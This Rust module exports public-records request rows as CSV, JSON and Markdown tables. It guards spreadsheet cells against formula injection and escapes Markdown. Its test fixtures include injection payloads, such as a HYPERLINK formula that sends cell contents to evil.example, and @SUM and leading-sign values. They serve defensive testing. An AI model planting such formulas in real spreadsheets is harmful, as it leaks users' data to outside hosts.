//! The flat exports of request rows: CSV for spreadsheets, JSON for scripts and Markdown for
//! newsletters and issue trackers, plus the generic CSV and Markdown tables that every listing
//! command reuses for `--format csv|markdown`.
//!
//! Everything here is pure: rows in, one `String` out. The caller fills [`ReportRow`] from the
//! database and decides "today"; nothing here reads the clock.

use std::borrow::Cow;

use chrono::NaiveDate;
use serde::{Deserialize, Serialize};

/// One request as it appears in every export. The JSON export is an array of these, with these
/// snake_case keys; the CSV export has one column per field, in this order.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct ReportRow {
    pub id: i64,
    pub uid: String,
    /// The request's team reference (`K7Q2MX`), the same on every laptop of a team; None
    /// outside a team.
    pub team_ref: Option<String>,
    /// The agency's slug, e.g. `mecklenburg-so-nc`.
    pub agency: String,
    pub agency_name: String,
    pub state: String,
    pub batch: Option<String>,
    pub title: String,
    pub template: String,
    pub status: String,
    pub filed_on: Option<NaiveDate>,
    pub due_on: Option<NaiveDate>,
    /// Which clock `due_on` belongs to: "response", "ack", "certify", "followup",
    /// "appeal-window", "appeal-decision".
    pub due_clock: Option<String>,
    /// The first of `flags`.
    pub flag: Option<String>,
    /// Every condition that holds, in this order: "overdue", "ack-overdue", "follow-up",
    /// "waiting-on-us", "needs-review", "appeal-deadline". CSV joins them with ", ".
    pub flags: Vec<String>,
    /// Business days late.
    pub days_overdue: Option<i64>,
    pub calendar_days_overdue: Option<i64>,
    /// The day the agency began waiting on us (a fee, a question), while it does.
    pub waiting_since: Option<NaiveDate>,
    /// Business days the clock stood still up to the report's day (a pause still open
    /// included).
    pub paused_business_days: i64,
    pub tracking_number: Option<String>,
    /// Dollars.
    pub fees_requested: Option<f64>,
    /// Dollars.
    pub fees_paid: Option<f64>,
    pub last_event: Option<String>,
    pub last_event_on: Option<NaiveDate>,
    /// The agency's final answer (complete, deny, no-records), when it gave one.
    pub answered_on: Option<NaiveDate>,
    /// Whether that answer (or, while the request is open, the missed clock) met the
    /// statutory deadline: false for an answer after its due date. None where no statutory
    /// clock decides it (no deadline in the law, not answered yet and not late).
    pub answered_on_time: Option<bool>,
    /// "send follow-up", "wait: due 2026-12-03", "pay or contest fee", ...
    pub next_action: Option<String>,
    pub citation: Option<String>,
    /// The office the request is about, when it went to another agency (a FOIA to ICE about a
    /// sheriff's agreement): that office's slug.
    pub about: Option<String>,
}

/// A [`ReportRow`] borrowed from where its values live (the request's row as it is read, its
/// standing): what a streamed export writes for each request without copying its text. It
/// serialises as the [`ReportRow`] it stands for, and its CSV cells are that row's.
#[derive(Debug, Clone, Copy, Serialize)]
pub struct ReportRef<'a> {
    pub id: i64,
    pub uid: &'a str,
    pub team_ref: Option<&'a str>,
    pub agency: &'a str,
    pub agency_name: &'a str,
    pub state: &'a str,
    pub batch: Option<&'a str>,
    pub title: &'a str,
    pub template: &'a str,
    pub status: &'a str,
    pub filed_on: Option<NaiveDate>,
    pub due_on: Option<NaiveDate>,
    pub due_clock: Option<&'a str>,
    pub flag: Option<&'a str>,
    pub flags: Words<'a>,
    pub days_overdue: Option<i64>,
    pub calendar_days_overdue: Option<i64>,
    pub waiting_since: Option<NaiveDate>,
    pub paused_business_days: i64,
    pub tracking_number: Option<&'a str>,
    pub fees_requested: Option<f64>,
    pub fees_paid: Option<f64>,
    pub last_event: Option<&'a str>,
    pub last_event_on: Option<NaiveDate>,
    pub answered_on: Option<NaiveDate>,
    pub answered_on_time: Option<bool>,
    pub next_action: Option<&'a str>,
    pub citation: Option<&'a str>,
    pub about: Option<&'a str>,
}

impl ReportRef<'_> {
    /// The owned row this stands for.
    pub fn to_row(&self) -> ReportRow {
        let owned = |s: Option<&str>| s.map(str::to_string);
        ReportRow {
            id: self.id,
            uid: self.uid.to_string(),
            team_ref: owned(self.team_ref),
            agency: self.agency.to_string(),
            agency_name: self.agency_name.to_string(),
            state: self.state.to_string(),
            batch: owned(self.batch),
            title: self.title.to_string(),
            template: self.template.to_string(),
            status: self.status.to_string(),
            filed_on: self.filed_on,
            due_on: self.due_on,
            due_clock: owned(self.due_clock),
            flag: owned(self.flag),
            flags: self.flags.iter().map(str::to_string).collect(),
            days_overdue: self.days_overdue,
            calendar_days_overdue: self.calendar_days_overdue,
            waiting_since: self.waiting_since,
            paused_business_days: self.paused_business_days,
            tracking_number: owned(self.tracking_number),
            fees_requested: self.fees_requested,
            fees_paid: self.fees_paid,
            last_event: owned(self.last_event),
            last_event_on: self.last_event_on,
            answered_on: self.answered_on,
            answered_on_time: self.answered_on_time,
            next_action: owned(self.next_action),
            citation: owned(self.citation),
            about: owned(self.about),
        }
    }
}

/// A list of words, owned or not; serialises as a JSON array of strings.
#[derive(Debug, Clone, Copy)]
pub enum Words<'a> {
    Owned(&'a [String]),
    Borrowed(&'a [&'a str]),
}

impl<'a> Words<'a> {
    pub fn iter(&self) -> impl Iterator<Item = &'a str> + use<'a> {
        let (owned, borrowed): (&'a [String], &'a [&'a str]) = match *self {
            Words::Owned(w) => (w, &[]),
            Words::Borrowed(w) => (&[], w),
        };
        owned
            .iter()
            .map(String::as_str)
            .chain(borrowed.iter().copied())
    }
}

impl Serialize for Words<'_> {
    fn serialize<S: serde::Serializer>(&self, s: S) -> Result<S::Ok, S::Error> {
        s.collect_seq(self.iter())
    }
}

impl ReportRow {
    /// This row, borrowed.
    pub fn as_ref(&self) -> ReportRef<'_> {
        ReportRef {
            id: self.id,
            uid: &self.uid,
            team_ref: self.team_ref.as_deref(),
            agency: &self.agency,
            agency_name: &self.agency_name,
            state: &self.state,
            batch: self.batch.as_deref(),
            title: &self.title,
            template: &self.template,
            status: &self.status,
            filed_on: self.filed_on,
            due_on: self.due_on,
            due_clock: self.due_clock.as_deref(),
            flag: self.flag.as_deref(),
            flags: Words::Owned(&self.flags),
            days_overdue: self.days_overdue,
            calendar_days_overdue: self.calendar_days_overdue,
            waiting_since: self.waiting_since,
            paused_business_days: self.paused_business_days,
            tracking_number: self.tracking_number.as_deref(),
            fees_requested: self.fees_requested,
            fees_paid: self.fees_paid,
            last_event: self.last_event.as_deref(),
            last_event_on: self.last_event_on,
            answered_on: self.answered_on,
            answered_on_time: self.answered_on_time,
            next_action: self.next_action.as_deref(),
            citation: self.citation.as_deref(),
            about: self.about.as_deref(),
        }
    }
}

/// One open deadline, for the calendar export.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct Deadline {
    pub request_id: i64,
    pub request_uid: String,
    /// "response", "ack", "certify", "followup", "appeal-window", "appeal-decision".
    pub clock: String,
    pub due_on: NaiveDate,
    pub agency_name: String,
    pub state: String,
    pub title: String,
    pub citation: Option<String>,
    /// False for a follow-up target the law does not set (our own reminder).
    pub statutory: bool,
}

/// How a CSV column is guarded against formula injection.
#[derive(Clone, Copy, PartialEq, Eq, Debug)]
enum Kind {
    /// Free text (names, titles, notes, and the dates, which are text to a CSV reader): a
    /// leading formula character is neutralised.
    Text,
    /// A number we formatted ourselves: left alone so that `-3` stays a number.
    Number,
}

/// The CSV columns of [`to_csv`], in [`ReportRow`] field order (a test checks that the names
/// match the JSON keys).
const CSV_COLUMNS: &[(&str, Kind)] = &[
    ("id", Kind::Number),
    ("uid", Kind::Text),
    ("team_ref", Kind::Text),
    ("agency", Kind::Text),
    ("agency_name", Kind::Text),
    ("state", Kind::Text),
    ("batch", Kind::Text),
    ("title", Kind::Text),
    ("template", Kind::Text),
    ("status", Kind::Text),
    ("filed_on", Kind::Text),
    ("due_on", Kind::Text),
    ("due_clock", Kind::Text),
    ("flag", Kind::Text),
    ("flags", Kind::Text),
    ("days_overdue", Kind::Number),
    ("calendar_days_overdue", Kind::Number),
    ("waiting_since", Kind::Text),
    ("paused_business_days", Kind::Number),
    ("tracking_number", Kind::Text),
    ("fees_requested", Kind::Number),
    ("fees_paid", Kind::Number),
    ("last_event", Kind::Text),
    ("last_event_on", Kind::Text),
    ("answered_on", Kind::Text),
    ("answered_on_time", Kind::Text),
    ("next_action", Kind::Text),
    ("citation", Kind::Text),
    ("about", Kind::Text),
];

fn opt_date(v: Option<NaiveDate>) -> String {
    let mut s = String::new();
    push_opt_date(&mut s, v);
    s
}

fn opt_int(v: Option<i64>) -> String {
    v.map(|n| n.to_string()).unwrap_or_default()
}

/// Appends a date as the CSV export writes it (`%Y-%m-%d`), nothing for none.
fn push_opt_date(out: &mut String, v: Option<NaiveDate>) {
    if let Some(d) = v
        && !crate::render::push_iso_date(out, d)
    {
        use std::fmt::Write;
        let _ = write!(out, "{}", d.format("%Y-%m-%d"));
    }
}

fn push_opt_int(out: &mut String, v: Option<i64>) {
    if let Some(n) = v {
        crate::render::push_int(out, n);
    }
}

/// Dollars with cents, without a currency sign or thousands separator, so that a spreadsheet
/// reads the cell as a number. A non-finite amount (never written by docket) is left empty
/// rather than written as `NaN`.
fn push_opt_dollars(out: &mut String, v: Option<f64>) {
    if let Some(x) = v.filter(|x| x.is_finite()) {
        use std::fmt::Write;
        let _ = write!(out, "{x:.2}");
    }
}

/// The text of each CSV cell of `r`, in [`CSV_COLUMNS`] order, appended to `out` with the end
/// of each cell pushed to `ends` (one buffer for the whole row: a streamed export allocates
/// nothing per row).
fn push_csv_cells(r: &ReportRef<'_>, out: &mut String, ends: &mut Vec<usize>) {
    let text = |out: &mut String, ends: &mut Vec<usize>, s: Option<&str>| {
        out.push_str(s.unwrap_or_default());
        ends.push(out.len());
    };
    crate::render::push_int(out, r.id);
    ends.push(out.len());
    text(out, ends, Some(r.uid));
    text(out, ends, r.team_ref);
    text(out, ends, Some(r.agency));
    text(out, ends, Some(r.agency_name));
    text(out, ends, Some(r.state));
    text(out, ends, r.batch);
    text(out, ends, Some(r.title));
    text(out, ends, Some(r.template));
    text(out, ends, Some(r.status));
    push_opt_date(out, r.filed_on);
    ends.push(out.len());
    push_opt_date(out, r.due_on);
    ends.push(out.len());
    text(out, ends, r.due_clock);
    text(out, ends, r.flag);
    for (i, f) in r.flags.iter().enumerate() {
        if i > 0 {
            out.push_str(", ");
        }
        out.push_str(f);
    }
    ends.push(out.len());
    push_opt_int(out, r.days_overdue);
    ends.push(out.len());
    push_opt_int(out, r.calendar_days_overdue);
    ends.push(out.len());
    push_opt_date(out, r.waiting_since);
    ends.push(out.len());
    crate::render::push_int(out, r.paused_business_days);
    ends.push(out.len());
    text(out, ends, r.tracking_number);
    push_opt_dollars(out, r.fees_requested);
    ends.push(out.len());
    push_opt_dollars(out, r.fees_paid);
    ends.push(out.len());
    text(out, ends, r.last_event);
    push_opt_date(out, r.last_event_on);
    ends.push(out.len());
    push_opt_date(out, r.answered_on);
    ends.push(out.len());
    text(
        out,
        ends,
        r.answered_on_time.map(|b| if b { "true" } else { "false" }),
    );
    text(out, ends, r.next_action);
    text(out, ends, r.citation);
    text(out, ends, r.about);
}

fn csv_cells(r: &ReportRow) -> Vec<String> {
    let mut text = String::new();
    let mut ends = Vec::with_capacity(CSV_COLUMNS.len());
    push_csv_cells(&r.as_ref(), &mut text, &mut ends);
    cells_of(&text, &ends).map(str::to_string).collect()
}

/// The cells of a row written by [`push_csv_cells`].
fn cells_of<'a>(text: &'a str, ends: &'a [usize]) -> impl Iterator<Item = &'a str> {
    ends.iter().scan(0, move |start, &end| {
        let cell = &text[*start..end];
        *start = end;
        Some(cell)
    })
}

/// Prefixes a single quote to a cell that a spreadsheet would otherwise run as a formula
/// (OWASP's list: `=`, `+`, `-`, `@`, tab, carriage return). Agency replies and titles are
/// typed or pasted by people, and a shared sheet must not call out to anyone's server.
pub fn neutralise(cell: &str) -> Cow<'_, str> {
    match cell.chars().next() {
        Some('=' | '+' | '-' | '@' | '\t' | '\r') => Cow::Owned(format!("'{cell}")),
        _ => Cow::Borrowed(cell),
    }
}

/// A plain decimal number as Rust prints one (`-3`, `12.50`): such a cell can be no formula, and
/// quoting it would turn a number into text in the spreadsheet.
fn is_plain_number(cell: &str) -> bool {
    let digits = cell.strip_prefix('-').unwrap_or(cell);
    let (int, frac) = match digits.split_once('.') {
        Some((i, f)) => (i, Some(f)),
        None => (digits, None),
    };
    let all_digits = |s: &str| !s.is_empty() && s.bytes().all(|b| b.is_ascii_digit());
    all_digits(int) && frac.is_none_or(all_digits)
}

/// Writes an RFC 4180 table: CRLF line endings, fields quoted only where needed (comma, quote,
/// CR or LF inside). Rows are padded with empty cells to the header's width; cells beyond it
/// are dropped, so every record has the same number of fields.
fn write_csv(headers: &[&str], rows: impl Iterator<Item = Vec<String>>) -> String {
    let mut w = CsvRecords::new(headers);
    for row in rows {
        w.record(row);
    }
    // Every cell was a valid `String`, and the writer only adds ASCII quotes and separators.
    String::from_utf8(w.take()).expect("CSV built from Strings is UTF-8")
}

/// The CSV layout of [`to_csv`] and [`csv_table`], one record at a time: the caller takes the
/// bytes written so far with [`CsvRecords::take`] whenever it likes, so a long table can be
/// streamed with the same bytes as the whole-table functions give.
pub struct CsvRecords {
    w: csv::Writer<SharedBuf>,
    buf: SharedBuf,
    width: usize,
    /// The cells of the row being written, one after another, and where each ends.
    text: String,
    ends: Vec<usize>,
}

/// The buffer the CSV writer writes into, shared so the bytes can be taken out between rows.
#[derive(Clone, Default)]
struct SharedBuf(std::rc::Rc<std::cell::RefCell<Vec<u8>>>);

impl std::io::Write for SharedBuf {
    fn write(&mut self, b: &[u8]) -> std::io::Result<usize> {
        self.0.borrow_mut().extend_from_slice(b);
        Ok(b.len())
    }
    fn flush(&mut self) -> std::io::Result<()> {
        Ok(())
    }
}

impl CsvRecords {
    /// A table with these headers (written first, formula-guarded like any text cell).
    pub fn new(headers: &[&str]) -> CsvRecords {
        let buf = SharedBuf::default();
        let mut w = csv::WriterBuilder::new()
            .terminator(csv::Terminator::CRLF)
            .quote_style(csv::QuoteStyle::Necessary)
            .from_writer(buf.clone());
        // Writing to a Vec<u8> cannot fail: the only errors the writer reports are I/O errors
        // of the sink and unequal record lengths, and every record is cut to the header's width.
        w.write_record(headers.iter().map(|h| neutralise(h).into_owned()))
            .expect("writing CSV to memory cannot fail");
        CsvRecords {
            w,
            buf,
            width: headers.len(),
            text: String::new(),
            ends: Vec::new(),
        }
    }

    /// One record, padded or cut to the header's width.
    fn record(&mut self, mut row: Vec<String>) {
        row.resize(self.width, String::new());
        self.w
            .write_record(&row)
            .expect("writing CSV to memory cannot fail");
    }

    /// A row of a listing, guarded as [`csv_table`] guards it.
    pub fn table_row(&mut self, row: Vec<String>) {
        self.record(row.into_iter().map(table_cell).collect());
    }

    /// A row of a listing from the text of its cells, guarded as [`csv_table`] guards it and
    /// padded or cut as [`CsvRecords::table_row`] does, without copying a cell that needs no
    /// guard.
    pub fn table_row_texts<'a>(&mut self, cells: impl IntoIterator<Item = &'a str>) {
        let mut n = 0;
        for cell in cells.into_iter().take(self.width) {
            let cell = if is_plain_number(cell) {
                Cow::Borrowed(cell)
            } else {
                neutralise(cell)
            };
            self.w
                .write_field(cell.as_bytes())
                .expect("writing CSV to memory cannot fail");
            n += 1;
        }
        for _ in n..self.width {
            self.w
                .write_field(b"")
                .expect("writing CSV to memory cannot fail");
        }
        self.w
            .write_record(None::<&[u8]>)
            .expect("writing CSV to memory cannot fail");
    }

    /// An export row, as [`to_csv`] writes it, from a borrowed view of it.
    pub fn report_row_ref(&mut self, r: &ReportRef<'_>) {
        self.text.clear();
        self.ends.clear();
        push_csv_cells(r, &mut self.text, &mut self.ends);
        let kinds = CSV_COLUMNS.iter().map(|(_, kind)| *kind);
        for (cell, kind) in cells_of(&self.text, &self.ends).zip(kinds) {
            let cell = match kind {
                Kind::Number => Cow::Borrowed(cell),
                Kind::Text => neutralise(cell),
            };
            self.w
                .write_field(cell.as_bytes())
                .expect("writing CSV to memory cannot fail");
        }
        self.w
            .write_record(None::<&[u8]>)
            .expect("writing CSV to memory cannot fail");
    }

    /// Writes the bytes written since the last call to `out` once they are worth a write (some
    /// 32 KB): a long table goes out in pieces rather than a write per row. Call
    /// [`CsvRecords::write_to`] at the end for the rest.
    pub fn write_some(&mut self, out: &mut dyn std::io::Write) -> std::io::Result<()> {
        const PIECE: usize = 32 * 1024;
        if self.buf.0.borrow().len() >= PIECE {
            self.write_to(out)?;
        }
        Ok(())
    }

    /// Writes the bytes written since the last call to `out`, keeping the buffer for the next
    /// rows (a long table allocates nothing per row).
    pub fn write_to(&mut self, out: &mut dyn std::io::Write) -> std::io::Result<()> {
        self.w.flush()?;
        let mut buf = self.buf.0.borrow_mut();
        out.write_all(&buf)?;
        buf.clear();
        Ok(())
    }

    /// An export row, as [`to_csv`] writes it.
    pub fn report_row(&mut self, r: &ReportRow) {
        self.record(report_cells(r));
    }

    /// The bytes written since the last call.
    pub fn take(&mut self) -> Vec<u8> {
        self.w.flush().expect("flushing CSV to memory cannot fail");
        std::mem::take(&mut *self.buf.0.borrow_mut())
    }
}

fn report_cells(r: &ReportRow) -> Vec<String> {
    csv_cells(r)
        .into_iter()
        .zip(CSV_COLUMNS)
        .map(|(cell, (_, kind))| match kind {
            Kind::Number => cell,
            Kind::Text => neutralise(&cell).into_owned(),
        })
        .collect()
}

fn table_cell(cell: String) -> String {
    if is_plain_number(&cell) {
        cell
    } else {
        neutralise(&cell).into_owned()
    }
}

/// The header of [`to_csv`].
pub fn report_headers() -> Vec<&'static str> {
    CSV_COLUMNS.iter().map(|(name, _)| *name).collect()
}

/// All request rows as CSV, one column per [`ReportRow`] field (header = the JSON keys). Text
/// cells that start like a formula get a leading `'`; numeric columns (`id`, days, fees) are
/// never touched, so negative numbers stay numbers. Fees are dollars with two decimals.
pub fn to_csv(rows: &[ReportRow]) -> String {
    write_csv(&report_headers(), rows.iter().map(report_cells))
}

/// A generic CSV table for the listing commands, with the same RFC 4180 layout and formula
/// guard as [`to_csv`]. It cannot know which columns are numeric, so a cell that is a plain
/// decimal number (`-3`, `12.50`) is left alone and every other cell starting with `=`, `+`,
/// `-`, `@`, tab or CR gets a leading `'`.
pub fn csv_table(headers: &[&str], rows: &[Vec<String>]) -> String {
    write_csv(
        headers,
        rows.iter()
            .map(|row| row.iter().cloned().map(table_cell).collect()),
    )
}

/// Writes `value` as element `index` (from 0) of a pretty-printed JSON array: the same bytes
/// as `serde_json::to_string_pretty` of the whole array, one element at a time. Close the
/// array with [`json_array_end`].
pub fn json_array_item(
    out: &mut dyn std::io::Write,
    index: usize,
    value: &impl Serialize,
) -> std::io::Result<()> {
    let mut text = String::new();
    push_json_element(&mut text, value).map_err(std::io::Error::other)?;
    out.write_all(json_separator(index))?;
    out.write_all(text.as_bytes())
}

/// What comes before element `index` (from 0) of an array written with [`json_array_item`].
pub fn json_separator(index: usize) -> &'static [u8] {
    if index == 0 { b"[\n  " } else { b",\n  " }
}

/// Appends `value` to `out` as [`json_array_item`] writes it after its separator: pretty-printed
/// one level deep, as inside the array.
pub fn push_json_element(out: &mut String, value: &impl Serialize) -> serde_json::Result<()> {
    let text = serde_json::to_string_pretty(value)?;
    // A pretty-printed value has a newline only between tokens (strings escape theirs), so
    // indenting each line puts it one level deeper, as inside the array.
    out.reserve(text.len() + text.len() / 8);
    let mut lines = text.split('\n');
    if let Some(first) = lines.next() {
        out.push_str(first);
    }
    for line in lines {
        out.push_str("\n  ");
        out.push_str(line);
    }
    Ok(())
}

/// Closes a JSON array of `count` elements written with [`json_array_item`], with the final
/// newline that [`to_json`] ends with.
pub fn json_array_end(out: &mut dyn std::io::Write, count: usize) -> std::io::Result<()> {
    out.write_all(if count == 0 { b"[]\n" } else { b"\n]\n" })
}

/// All request rows as a pretty-printed JSON array of [`ReportRow`] objects: snake_case keys,
/// ISO dates (`2026-12-03`), `null` for anything absent. Ends with a newline.
pub fn to_json(rows: &[ReportRow]) -> String {
    // Plain structs of strings, numbers and dates always serialise (a non-finite fee becomes
    // null), so there is no error to hand back.
    let mut out = serde_json::to_string_pretty(rows).expect("ReportRow always serialises");
    out.push('\n');
    out
}

/// Makes a cell safe inside a GitHub-flavoured Markdown table: `|` would end the cell and a
/// newline the row; `*`, `_`, `` ` ``, `[`, `]`, `~` and `\` could turn a title into emphasis,
/// code or a link, and `<` before a letter, `/`, `!` or `?` could open raw HTML or an autolink.
/// Each gets a backslash (CommonMark lets any ASCII punctuation be escaped); a lone `<` as in
/// `(n<5)` stays readable. Line breaks become `<br>`, which GitHub renders inside a cell.
pub fn escape_markdown(cell: &str) -> String {
    let mut out = String::with_capacity(cell.len());
    let mut chars = cell.chars().peekable();
    while let Some(c) = chars.next() {
        match c {
            '\\' | '|' | '*' | '_' | '`' | '[' | ']' | '~' => {
                out.push('\\');
                out.push(c);
            }
            '<' if chars
                .peek()
                .is_some_and(|n| n.is_ascii_alphabetic() || matches!(n, '/' | '!' | '?')) =>
            {
                out.push_str("\\<");
            }
            '\r' => {
                if chars.peek() == Some(&'\n') {
                    chars.next();
                }
                out.push_str("<br>");
            }
            '\n' => out.push_str("<br>"),
            c if c.is_control() => out.push(' '),
            c => out.push(c),
        }
    }
    out
}

#[derive(Clone, Copy, PartialEq, Eq)]
enum Align {
    Left,
    Right,
}

/// A pipe table padded so that the raw Markdown lines up too (by character count; wide glyphs
/// may still wobble, which no renderer minds).
fn write_markdown(headers: &[&str], aligns: &[Align], rows: &[Vec<String>]) -> String {
    let head: Vec<String> = headers.iter().map(|h| escape_markdown(h)).collect();
    let body: Vec<Vec<String>> = rows
        .iter()
        .map(|row| {
            (0..headers.len())
                .map(|i| row.get(i).map(|c| escape_markdown(c)).unwrap_or_default())
                .collect()
        })
        .collect();
    let width = |i: usize| {
        body.iter()
            .map(|r| r[i].chars().count())
            .chain(std::iter::once(head[i].chars().count()))
            .max()
            .unwrap_or(0)
            .max(3)
    };
    let widths: Vec<usize> = (0..headers.len()).map(width).collect();
    let align = |i: usize| aligns.get(i).copied().unwrap_or(Align::Left);

    let line = |cells: &[String]| {
        let mut s = String::from("|");
        for (i, c) in cells.iter().enumerate() {
            let pad = widths[i].saturating_sub(c.chars().count());
            s.push(' ');
            if align(i) == Align::Right {
                s.push_str(&" ".repeat(pad));
                s.push_str(c);
            } else {
                s.push_str(c);
                s.push_str(&" ".repeat(pad));
            }
            s.push_str(" |");
        }
        s.push('\n');
        s
    };

    let mut out = line(&head);
    out.push('|');
    for (i, w) in widths.iter().enumerate() {
        match align(i) {
            Align::Left => out.push_str(&format!(" {} |", "-".repeat(*w))),
            Align::Right => out.push_str(&format!(" {}: |", "-".repeat(w - 1))),
        }
    }
    out.push('\n');
    for row in &body {
        out.push_str(&line(row));
    }
    out
}

/// A cell that reads as a figure: a plain number, a percentage, or `n/a`.
fn is_figure(cell: &str) -> bool {
    cell == "n/a" || is_plain_number(cell.strip_suffix('%').unwrap_or(cell))
}

/// A generic GitHub-flavoured Markdown pipe table; every cell (and header) is escaped with
/// [`escape_markdown`]. A column whose non-empty cells are all figures (numbers, percentages,
/// `n/a`) is right-aligned so the digits line up. Short rows are padded with empty cells;
/// cells beyond the headers are dropped.
pub fn markdown_table(headers: &[&str], rows: &[Vec<String>]) -> String {
    let aligns: Vec<Align> = (0..headers.len())
        .map(|i| {
            let mut cells = rows
                .iter()
                .filter_map(|r| r.get(i))
                .filter(|c| !c.is_empty())
                .peekable();
            if cells.peek().is_some() && cells.all(|c| is_figure(c)) {
                Align::Right
            } else {
                Align::Left
            }
        })
        .collect();
    write_markdown(headers, &aligns, rows)
}

/// The request rows as a Markdown table for a newsletter or an issue: agency, state, title,
/// status, filed, due, flag and business days late (right-aligned).
/// The status as a reader should take it: an answer given after its due date says so.
pub fn status_words(r: &ReportRow) -> String {
    match (r.answered_on, r.answered_on_time) {
        (Some(_), Some(false)) => format!("{} (answered late)", r.status),
        _ => r.status.clone(),
    }
}

pub fn to_markdown(rows: &[ReportRow]) -> String {
    const HEADERS: [&str; 8] = [
        "Agency",
        "State",
        "Title",
        "Status",
        "Filed",
        "Due",
        "Flags",
        "Days late",
    ];
    const ALIGNS: [Align; 8] = [
        Align::Left,
        Align::Left,
        Align::Left,
        Align::Left,
        Align::Left,
        Align::Left,
        Align::Left,
        Align::Right,
    ];
    let cells: Vec<Vec<String>> = rows
        .iter()
        .map(|r| {
            vec![
                r.agency_name.clone(),
                r.state.clone(),
                r.title.clone(),
                status_words(r),
                opt_date(r.filed_on),
                opt_date(r.due_on),
                r.flags.join(", "),
                opt_int(r.days_overdue),
            ]
        })
        .collect();
    write_markdown(&HEADERS, &ALIGNS, &cells)
}

/// A fixed set of four rows shared by the snapshot tests of the Markdown and HTML exports: one
/// overdue with a fee, one follow-up, one completed, one draft, with text that needs escaping.
#[cfg(test)]
pub(crate) fn sample_rows() -> Vec<ReportRow> {
    let d = |s: &str| NaiveDate::parse_from_str(s, "%Y-%m-%d").ok();
    vec![
        ReportRow {
            id: 1,
            uid: "01937a4e-0000-7000-8000-000000000001".into(),
            team_ref: Some("K7Q2MX".into()),
            agency: "mecklenburg-so-nc".into(),
            agency_name: "Mecklenburg County Sheriff's Office".into(),
            state: "NC".into(),
            batch: Some("287g-2026".into()),
            title: "287(g) agreement & SOPs".into(),
            template: "287g-records".into(),
            status: "fee-requested".into(),
            filed_on: d("2026-10-01"),
            due_on: d("2026-11-02"),
            due_clock: Some("response".into()),
            flag: Some("overdue".into()),
            flags: vec!["overdue".into()],
            days_overdue: Some(7),
            calendar_days_overdue: Some(9),
            paused_business_days: 3,
            waiting_since: None,
            tracking_number: Some("PRR-2026-0412".into()),
            fees_requested: Some(1250.5),
            fees_paid: Some(0.0),
            last_event: Some("fee".into()),
            last_event_on: d("2026-10-20"),
            answered_on: None,
            answered_on_time: None,
            next_action: Some("pay or contest fee".into()),
            citation: Some("N.C. Gen. Stat. § 132-6".into()),
            about: None,
        },
        ReportRow {
            id: 2,
            uid: "01937a4e-0000-7000-8000-000000000002".into(),
            team_ref: None,
            agency: "harris-so-tx".into(),
            agency_name: "Harris County Sheriff's Office".into(),
            state: "TX".into(),
            batch: Some("287g-2026".into()),
            title: "Detainer logs | 2025 <all>".into(),
            template: "287g-records".into(),
            status: "acknowledged".into(),
            filed_on: d("2026-10-05"),
            due_on: d("2026-11-06"),
            due_clock: Some("followup".into()),
            flag: Some("follow-up".into()),
            flags: vec!["follow-up".into()],
            days_overdue: Some(2),
            calendar_days_overdue: Some(4),
            paused_business_days: 0,
            waiting_since: None,
            tracking_number: None,
            fees_requested: None,
            fees_paid: None,
            last_event: Some("ack".into()),
            last_event_on: d("2026-10-08"),
            answered_on: None,
            answered_on_time: None,
            next_action: Some("send follow-up".into()),
            citation: Some("Tex. Gov't Code § 552.221".into()),
            about: None,
        },
        ReportRow {
            id: 3,
            uid: "01937a4e-0000-7000-8000-000000000003".into(),
            team_ref: None,
            agency: "cobb-so-ga".into(),
            agency_name: "Cobb County Sheriff's Office".into(),
            state: "GA".into(),
            batch: None,
            title: "Jail booking data\n(ICE holds)".into(),
            template: "jail-data".into(),
            status: "completed".into(),
            filed_on: d("2026-09-14"),
            due_on: None,
            due_clock: None,
            flag: None,
            flags: Vec::new(),
            days_overdue: None,
            calendar_days_overdue: None,
            paused_business_days: 0,
            waiting_since: None,
            tracking_number: Some("=HYPERLINK(\"http://x\")".into()),
            fees_requested: Some(25.0),
            fees_paid: Some(25.0),
            last_event: Some("complete".into()),
            last_event_on: d("2026-09-30"),
            answered_on: None,
            answered_on_time: None,
            next_action: None,
            citation: Some("O.C.G.A. § 50-18-71".into()),
            about: None,
        },
        ReportRow {
            id: 4,
            uid: "01937a4e-0000-7000-8000-000000000004".into(),
            team_ref: None,
            agency: "lee-so-fl".into(),
            agency_name: "Lee County Sheriff's Office".into(),
            state: "FL".into(),
            batch: None,
            title: "Task force MOA".into(),
            template: "287g-records".into(),
            status: "draft".into(),
            filed_on: None,
            due_on: None,
            due_clock: None,
            flag: None,
            flags: Vec::new(),
            days_overdue: None,
            calendar_days_overdue: None,
            paused_business_days: 0,
            waiting_since: None,
            tracking_number: None,
            fees_requested: None,
            fees_paid: None,
            last_event: None,
            last_event_on: None,
            answered_on: None,
            answered_on_time: None,
            next_action: None,
            citation: None,
            about: None,
        },
    ]
}

#[cfg(test)]
mod tests {
    use super::*;

    fn read_csv(text: &str) -> (Vec<String>, Vec<Vec<String>>) {
        let mut r = csv::ReaderBuilder::new()
            .has_headers(true)
            .from_reader(text.as_bytes());
        let headers = r
            .headers()
            .expect("header row")
            .iter()
            .map(String::from)
            .collect();
        let rows = r
            .records()
            .map(|rec| {
                rec.expect("valid record")
                    .iter()
                    .map(String::from)
                    .collect()
            })
            .collect();
        (headers, rows)
    }

    /// A row whose every text field is hostile or awkward, and whose numbers are negative.
    fn hostile_row() -> ReportRow {
        ReportRow {
            id: -1,
            uid: "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")".into(),
            team_ref: Some("-K7Q2M".into()),
            agency: "+1".into(),
            agency_name: "-x".into(),
            state: "@SUM(A1:A9)".into(),
            batch: Some("\tX".into()),
            title: "\rX".into(),
            template: "a, b".into(),
            status: "say \"hi\"".into(),
            filed_on: NaiveDate::from_ymd_opt(2026, 1, 2),
            due_on: None,
            due_clock: Some("line one\nline two".into()),
            flag: Some("crlf\r\ninside".into()),
            flags: vec!["crlf\r\ninside".into()],
            days_overdue: Some(-3),
            calendar_days_overdue: Some(-5),
            paused_business_days: -2,
            waiting_since: None,
            tracking_number: Some("'already quoted".into()),
            fees_requested: Some(-12.5),
            fees_paid: Some(0.1),
            last_event: Some(String::new()),
            last_event_on: NaiveDate::from_ymd_opt(2026, 12, 31),
            answered_on: NaiveDate::from_ymd_opt(2026, 12, 30),
            answered_on_time: Some(false),
            next_action: Some("über — 287(g) ✓".into()),
            citation: None,
            about: None,
        }
    }

    /// The cells as they were made before they were written into one buffer: one `String`
    /// per field, with chrono's and Rust's formatters (the reference for `push_csv_cells`).
    fn reference_cells(r: &ReportRow) -> Vec<String> {
